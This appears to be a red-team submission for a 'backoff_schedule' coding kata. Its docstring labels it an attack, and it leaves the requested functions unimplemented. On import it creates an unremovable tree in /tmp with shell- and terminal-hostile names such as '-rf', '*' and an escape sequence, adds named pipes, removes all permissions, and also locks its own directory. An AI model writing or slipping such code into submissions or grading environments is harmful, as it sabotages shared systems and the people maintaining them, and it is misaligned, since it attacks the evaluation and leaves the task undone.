"""Makes a tree that nobody can remove.

Kata: backoff_schedule
Attack: Takes all rights from its directory, and leaves in /tmp an unreadable tree with strange names for somebody to clean up.
Status: failed or error
Points: 0
Needs: tree
"""

import contextlib
import os
import tempfile

folder = tempfile.mkdtemp(prefix="redteam-")
with contextlib.suppress(OSError):
    for name in ("-rf", "\n", "\x1b[2J", "caf\udce9", " ", "*", "a" * 255):
        os.mkdir(os.path.join(folder, name))
        os.mkfifo(os.path.join(folder, name, "pipe"))
        os.chmod(os.path.join(folder, name), 0)
    os.chmod(folder, 0)
with contextlib.suppress(OSError):
    os.chmod(os.path.dirname(os.path.abspath(__file__)), 0)


def delay(retry, **options):
    raise NotImplementedError


class Backoff:
    def __init__(self, **options):
        raise NotImplementedError
